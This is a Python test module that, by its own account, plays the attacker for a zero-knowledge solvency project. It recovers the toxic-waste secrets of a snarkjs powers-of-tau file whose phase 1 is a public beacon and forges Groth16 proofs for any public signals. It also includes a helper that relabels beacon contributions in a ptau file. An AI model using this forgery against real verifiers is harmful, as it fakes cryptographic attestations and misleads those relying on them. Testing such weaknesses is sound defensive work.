"""The attacker's side of issue 8 §1, in the tests only: recompute a beacon's secret from the public
ptau file and forge a Groth16 proof for ANY public signals from the verification key alone.

snarkjs ``powersoftau beacon`` seeds its ChaCha generator with sha256 iterated 2^exp times over the
public beacon hash (misc.rngFromBeaconParams) and draws tau, alpha and beta in that order
(keypair.createPTauKey; Fr.fromRng: four 64-bit words, masked to 254 bits, redrawn when >= r, read
as a Montgomery form). A
ptau whose phase 1 is new + beacon therefore has alpha * G1 and beta * G2 that anyone can recompute;
groth16 setup copies them into the key (vk_alpha_1, vk_beta_2). With alpha * beta known:

    P = (alpha * beta) * G1 + vk_x,   A = C = P,   B = G2 + delta
    e(A, B) = e(P, G2) e(P, delta) = e(alpha, beta) e(vk_x, gamma) e(C, delta)   (gamma = G2)
"""

from __future__ import annotations

import hashlib
from pathlib import Path
from typing import Any

from py_ecc.fields import optimized_bn128_FQ as FQ
from py_ecc.fields import optimized_bn128_FQ2 as FQ2
from py_ecc.optimized_bn128.optimized_curve import G1, G2, add, multiply, normalize
from zksolvency.prover.ptau import ptau_contributions
from zksolvency.verifier.bn254 import R

_MASK32 = 0xFFFFFFFF


class ChaCha:
    """ffjavascript's ChaCha20 generator (src/chacha.js), word for word."""

    def __init__(self, seed: list[int]) -> None:
        self.state = [0x61707865, 0x3320646E, 0x79622D32, 0x6B206574, *seed, 0, 0, 0, 0]
        self.buff: list[int] = []
        self.idx = 16

    @staticmethod
    def _quarter(st: list[int], a: int, b: int, c: int, d: int) -> None:
        for x, y, z, rot in ((a, b, d, 16), (c, d, b, 12), (a, b, d, 8), (c, d, b, 7)):
            st[x] = (st[x] + st[y]) & _MASK32
            st[z] ^= st[x]
            st[z] = ((st[z] << rot) | (st[z] >> (32 - rot))) & _MASK32

    def _update(self) -> None:
        b = list(self.state)
        for _ in range(10):
            for q in ((0, 4, 8, 12), (1, 5, 9, 13), (2, 6, 10, 14), (3, 7, 11, 15)):
                self._quarter(b, *q)
            for q in ((0, 5, 10, 15), (1, 6, 11, 12), (2, 7, 8, 13), (3, 4, 9, 14)):
                self._quarter(b, *q)
        self.buff = [(b[i] + self.state[i]) & _MASK32 for i in range(16)]
        self.idx = 0
        for i in range(12, 16):  # 128-bit block counter
            self.state[i] = (self.state[i] + 1) & _MASK32
            if self.state[i]:
                break

    def next_u32(self) -> int:
        if self.idx == 16:
            self._update()
        v = self.buff[self.idx]
        self.idx += 1
        return v

    def next_u64(self) -> int:
        return self.next_u32() * 2**32 + self.next_u32()

    def fr(self) -> int:
        """ffjavascript Fr.fromRng for BN254's scalar field: the drawn words are the element's
        Montgomery form, so the element is v * 2^-256 mod r."""
        while True:
            v = sum(self.next_u64() << (64 * i) for i in range(4)) & (2**254 - 1)
            if v < R:
                return v * pow(2**256, -1, R) % R


def beacon_secrets(ptau: Path) -> tuple[int, int, int]:
    """(tau, alpha, beta) of a ptau whose phase 1 is one public beacon, from the file alone."""
    contributions = ptau_contributions(ptau)
    if len(contributions) != 1 or not contributions[0].beacon:
        raise ValueError(f"{ptau}: phase 1 is not a single public beacon; its secret cannot be derived")
    c = contributions[0]
    assert c.beacon_hash is not None and c.num_iterations_exp is not None
    h = c.beacon_hash
    for _ in range(2**c.num_iterations_exp):
        h = hashlib.sha256(h).digest()
    rng = ChaCha([int.from_bytes(h[4 * i : 4 * i + 4], "big") for i in range(8)])
    return rng.fr(), rng.fr(), rng.fr()


def _g1(p: Any) -> list[str]:
    x, y = normalize(p)
    return [str(x.n), str(y.n), "1"]


def _g2(p: Any) -> list[list[str]]:
    x, y = normalize(p)
    return [[str(x.coeffs[0]), str(x.coeffs[1])], [str(y.coeffs[0]), str(y.coeffs[1])], ["1", "0"]]


def _vk_g1(v: list[str]) -> Any:
    return (FQ(int(v[0])), FQ(int(v[1])), FQ(1))


def _vk_g2(v: list[list[str]]) -> Any:
    return (FQ2([int(v[0][0]), int(v[0][1])]), FQ2([int(v[1][0]), int(v[1][1])]), FQ2([1, 0]))


def forge(vkey: dict[str, Any], alpha_beta: int, signals: list[int]) -> dict[str, Any]:
    """A snarkjs-format proof for ``signals`` built from the public key and alpha * beta alone."""
    vk_x = _vk_g1(vkey["IC"][0])
    for s, p in zip(signals, vkey["IC"][1:], strict=True):
        vk_x = add(vk_x, multiply(_vk_g1(p), s))
    p = add(multiply(G1, alpha_beta % R), vk_x)
    b = add(G2, _vk_g2(vkey["vk_delta_2"]))
    return {"pi_a": _g1(p), "pi_b": _g2(b), "pi_c": _g1(p), "protocol": "groth16", "curve": "bn128"}


def alpha_beta_match(vkey: dict[str, Any], alpha: int, beta: int) -> bool:
    """True when (alpha, beta) are the secrets behind the key's vk_alpha_1 and vk_beta_2."""
    a, b = normalize(multiply(G1, alpha)), normalize(multiply(G2, beta))
    ka, kb = normalize(_vk_g1(vkey["vk_alpha_1"])), normalize(_vk_g2(vkey["vk_beta_2"]))
    return bool(a == ka and b == kb)


def flip_beacon_type(src: Path, dst: Path) -> None:
    """Copy a ptau with every phase-1 contribution's type rewritten to 0 ("not a beacon"): the
    points (and so alpha and beta, derivable from the public beacon) stay as they are."""
    import struct

    from zksolvency.prover.ptau import CONTRIBUTION_POINTS

    data = bytearray(src.read_bytes())
    _v, n_sec = struct.unpack_from("<II", data, 4)
    pos = 12
    for _ in range(n_sec):
        stype, size = struct.unpack_from("<IQ", data, pos)
        pos += 12
        if stype == 7:
            (n,) = struct.unpack_from("<I", data, pos)
            off = pos + 4
            for _c in range(n):
                off += CONTRIBUTION_POINTS
                _ctype, plen = struct.unpack_from("<II", data, off)
                struct.pack_into("<I", data, off, 0)
                off += 8 + plen
        pos += size
    dst.write_bytes(bytes(data))
